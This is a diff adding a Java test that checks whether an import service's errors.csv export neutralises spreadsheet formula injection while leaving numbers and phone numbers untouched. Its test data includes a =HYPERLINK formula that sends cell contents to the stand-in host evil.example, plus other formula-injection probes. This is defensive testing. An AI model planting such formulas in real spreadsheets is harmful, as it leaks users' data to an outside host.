@@ -291,6 +291,39 @@ abstract class IsolationContract {
 	}
 
 	@Test
+	void errorsCsvNeutralisesFormulasButKeepsNumbersAndPhoneNumbersAsWritten() throws Exception {
+		Http admin = emptyTenant().as(Role.ADMIN);
+		// Cell → as errors.csv must show it. Every row lacks the required company name.
+		Map<String, String> cells = new LinkedHashMap<>();
+		cells.put("=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Klicka\")",
+				"'=HYPERLINK(\"http://evil.example/?q=\"&A1;\"Klicka\")");
+		cells.put("+1+1", "'+1+1");
+		cells.put("-2+3", "'-2+3");
+		cells.put("@SUM(1)", "'@SUM(1)");
+		cells.put("\t=1+2", "'\t=1+2");
+		cells.put("\r=1+2", "'\r=1+2");
+		cells.put("-12,50", "-12,50");
+		cells.put("+46 8 123 45 67", "+46 8 123 45 67");
+		// A plain number (API.md: "unless it is a plain number or phone number").
+		cells.put("-2", "-2");
+		StringBuilder csv = new StringBuilder("Företagsnamn;Ort;Xyzzy\r\n");
+		cells.keySet().forEach((cell) -> csv.append(";Umeå;\"").append(cell.replace("\"", "\"\"")).append("\"\r\n"));
+		csv.append("Bolag;Umeå;ok\r\n");
+		String job = TenantFixtures.run(admin, TenantFixtures.upload(admin, csv.toString()));
+
+		Http.Response errors = admin.get("/api/v1/imports/" + job + "/errors.csv");
+		assertThat(errors.status()).as(errors.body()).isEqualTo(200);
+		assertThat(errors.body()).startsWith("\uFEFF");
+		// Compared as written: a CSV reader would hide what the cell starts with.
+		List<String> shown = java.util.Arrays.stream(errors.body().split("\r\n"))
+			.skip(1)
+			.map((line) -> line.substring(line.indexOf(";Umeå;") + 6))
+			.toList();
+		List<String> expected = cells.values().stream().map(IsolationContract::csvCell).toList();
+		assertThat(String.join("\n", shown)).isEqualTo(String.join("\n", expected));
+	}
+
+	@Test
 	void theSixthBadBasicSignInOfAUserWithinTheWindowGets429WithRetryAfter() {
 		// A user of its own: the throttle counts per username and address, so no other
 		// test's sign-ins meet these.
@@ -421,6 +454,12 @@ abstract class IsolationContract {
 			items.forEach((item) -> ids.add(item.path("id").asString("")));
 		}
 		return ids;
+	}
+
+	/** A cell as a CSV file with {@code ;} writes it. */
+	static String csvCell(String cell) {
+		boolean quote = cell.contains(";") || cell.contains("\"") || cell.contains("\r") || cell.contains("\n");
+		return quote ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell;
 	}
 
 	static String error(Http.Response response) {
